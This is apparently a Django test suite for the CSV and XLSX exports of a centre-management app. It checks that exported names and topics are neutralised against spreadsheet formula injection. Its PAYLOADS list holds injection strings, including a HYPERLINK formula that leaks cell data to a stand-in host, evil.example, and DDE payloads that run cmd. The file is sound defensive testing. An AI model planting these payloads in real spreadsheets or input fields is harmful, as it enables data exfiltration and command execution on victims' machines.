"""An attacker names what staff can name (the organisation, centres, topics, activities,
aliases) like spreadsheet formulas, and every export is downloaded: no cell is a formula
or a link, every text starting like one is a text cell (XLSX) or starts with an
apostrophe (CSV), and the counts are still numbers."""

import csv
import datetime
import io
import re
import zipfile
from zoneinfo import ZoneInfo

import openpyxl
import pytest
import time_machine
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from advice.models import Topic
from centres.exports import FORMULA_STARTS
from centres.models import Centre, Organisation, VisitCount
from incidents.models import Kind
from tests.activities.factories import ActivityFactory
from tests.advice.factories import ContactFactory
from tests.centres.factories import KeyHolderFactory
from tests.factories import CentreFactory
from tests.incidents.factories import BanFactory, IncidentFactory

CPH = ZoneInfo("Europe/Copenhagen")
NOW = datetime.datetime(2026, 5, 20, 12, 0, tzinfo=CPH)
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'
PAYLOADS = [
    HYPERLINK,
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
# Every export, with the query that fills it. A new .csv or .xlsx URL without a row here
# fails test_every_export_is_attacked.
EXPORTS = {
    "advice:figures_csv": {"start": "2026-01-01", "end": "2026-05-20"},
    "advice:figures_xlsx": {"start": "2026-01-01", "end": "2026-05-20"},
    "dashboard:pack_xlsx": {"year": 2026},
    "incidents:figures_xlsx": {"year": 2026, "quarter": 2},
}
NUMBER = re.compile(r"-?\d+(,\d+)?")


@pytest.fixture
def poisoned(world):
    """Organisation A with everything a user can name named like a formula."""
    Organisation.objects.filter(pk=world.org_a.pk).update(name=HYPERLINK)
    Centre.objects.filter(pk=world.centre_a.pk).update(name=HYPERLINK)
    Centre.objects.filter(pk=world.centre_b.pk).update(name=PAYLOADS[1])
    extra = CentreFactory(organisation=world.org_a, name=PAYLOADS[4])
    centres = [world.centre_a, world.centre_b, extra]
    # Topics a leader added, named by the attacker.
    topics = [
        Topic.objects.create(organisation=world.org_a, name=payload, position=i)
        for i, payload in enumerate(PAYLOADS)
    ]
    with time_machine.travel(NOW, tick=False):
        for i in range(40):
            ContactFactory(
                centre=centres[i % 3],
                date=datetime.date(2026, 1 + i % 5, 1 + i % 20),
                topics=[topics[i % len(PAYLOADS)]],
            )
        for i, centre in enumerate(centres):
            VisitCount.objects.create(
                centre=centre, date=datetime.date(2026, 4, 7 + i), hour=10, visits=30 + i
            )
            for _ in range(6):
                IncidentFactory(
                    centre=centre,
                    reported_by=world.leader,
                    kinds=[Kind.THREAT],
                    occurred_at=datetime.datetime(2026, 4, 14 + i, 11, tzinfo=CPH),
                    involved_aliases=[PAYLOADS[3]],
                    summary=PAYLOADS[0],
                )
        ActivityFactory(organisation=world.org_a, title=PAYLOADS[0], centres=[world.centre_a])
        KeyHolderFactory(organisation=world.org_a, alias=PAYLOADS[5])
        BanFactory(alias=PAYLOADS[1], decided_by=world.leader, centre=world.centre_a)
    return world


def download(client, name, shared=False):
    params = {**EXPORTS[name], **({"shared": "on"} if shared else {})}
    with time_machine.travel(NOW, tick=False):
        response = client.get(reverse(name), params)
    assert response.status_code == 200, (name, response.status_code)
    assert response["Content-Disposition"].startswith("attachment")
    return response.content


def unescaped(text):
    return text.replace("_x000D_", "\r") if isinstance(text, str) else text


def assert_no_formula_in_xlsx(data):
    """No cell of any sheet is a formula or a link; return the cells' values."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name).decode()
                assert not re.search(r"<f[ >]", xml), f"a formula in {name}"
                assert "<hyperlink" not in xml, f"a link in {name}"
    values = []
    for sheet in openpyxl.load_workbook(io.BytesIO(data)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is None:
                    continue
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                value = unescaped(cell.value)
                if isinstance(value, str) and value.startswith(FORMULA_STARTS):
                    assert cell.data_type == "s", f"{sheet.title}!{cell.coordinate}"
                values.append(value)
    return values


def assert_no_formula_in_csv(data):
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    fields = [field for row in rows for field in row]
    for field in fields:
        if field.startswith(FORMULA_STARTS):
            assert NUMBER.fullmatch(field), f"a field starts a formula: {field!r}"
    return fields


@pytest.mark.parametrize(
    ("name", "shared"),
    [
        ("advice:figures_xlsx", False),
        ("dashboard:pack_xlsx", False),
        ("dashboard:pack_xlsx", True),
        ("incidents:figures_xlsx", False),
    ],
)
def test_no_cell_of_a_workbook_is_a_formula(poisoned, client_for, name, shared):
    values = assert_no_formula_in_xlsx(download(client_for(poisoned.leader), name, shared))
    texts = [v for v in values if isinstance(v, str)]
    # The names are there, as the text they are, and the counts are numbers.
    assert PAYLOADS[1] in texts or any(PAYLOADS[1] in t for t in texts)
    assert any(isinstance(v, int | float) and not isinstance(v, bool) for v in values)


def test_the_report_packs_heading_rows_and_page_headers_are_text(poisoned, client_for):
    data = download(client_for(poisoned.leader), "dashboard:pack_xlsx", shared=True)
    book = openpyxl.load_workbook(io.BytesIO(data))
    for sheet in book.worksheets[1:]:
        # The notes under the title name the organisation: a merged cell, written as text.
        note = sheet["A2"]
        assert note.data_type == "s"
        assert note.value.startswith(HYPERLINK)
        # The printed header names it too, with its & doubled so it is not a code.
        assert HYPERLINK.replace("&", "&&") in sheet.oddHeader.left.text
    weeks = book["Uge for uge"]
    groups = [c.value for c in weeks[5] if c.value]
    assert PAYLOADS[1] in groups and all(c.data_type == "s" for c in weeks[5] if c.value)
    topics = [unescaped(row[0]) for row in book["Rådgivning"].iter_rows(values_only=True)]
    assert HYPERLINK in topics and PAYLOADS[5] in topics


@pytest.mark.parametrize("persona", ["leader", "association"])
def test_no_field_of_the_csv_starts_a_formula(poisoned, client_for, persona):
    fields = assert_no_formula_in_csv(
        download(client_for(getattr(poisoned, persona)), "advice:figures_csv")
    )
    # The topics and centres are there, neutralised; the counts are plain numbers.
    assert "'" + HYPERLINK in fields
    assert "'" + PAYLOADS[4] in fields
    assert any(NUMBER.fullmatch(f) for f in fields)


def test_the_associations_workbook_is_as_safe(poisoned, client_for):
    assert_no_formula_in_xlsx(download(client_for(poisoned.association), "advice:figures_xlsx"))


def export_patterns(resolver=None, prefix=""):
    """URL names of every pattern that serves a .csv or .xlsx file."""
    resolver = resolver or get_resolver()
    for pattern in resolver.url_patterns:
        if isinstance(pattern, URLResolver):
            namespace = f"{prefix}{pattern.namespace}:" if pattern.namespace else prefix
            yield from export_patterns(pattern, namespace)
        elif isinstance(pattern, URLPattern) and pattern.name:
            route = str(pattern.pattern)
            if re.search(r"(csv|xlsx)/?\$?$", route) or pattern.name.endswith(("_csv", "_xlsx")):
                yield f"{prefix}{pattern.name}"


def test_every_export_is_attacked():
    assert set(export_patterns()) == set(EXPORTS)
